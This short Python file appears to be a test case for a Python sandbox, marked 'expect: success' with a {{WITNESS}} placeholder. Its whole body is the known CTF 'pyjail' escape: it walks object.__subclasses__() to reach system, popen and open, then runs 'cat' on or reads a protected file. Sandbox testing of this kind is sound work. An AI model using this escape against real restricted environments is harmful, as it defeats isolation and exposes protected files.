# Finds os, subprocess and file loaders through object.__subclasses__ without importing anything.
# Known from: the classic of CTF pyjails: ().__class__.__base__.__subclasses__().
# expect: success
for kind in ().__class__.__base__.__subclasses__():
    try:
        names = kind.__init__.__globals__
    except AttributeError:
        continue
    for name in ("system", "popen", "open", "execv", "fork"):
        if name in names:
            try:
                print(kind.__name__, names[name]("cat {{WITNESS}}" if name != "open" else "{{WITNESS}}"))
            except BaseException:
                pass
        builtins = names.get("__builtins__")
        if isinstance(builtins, dict):
            try:
                print(builtins["open"]("{{WITNESS}}").read())
            except BaseException:
                pass
print("".__class__.__mro__)
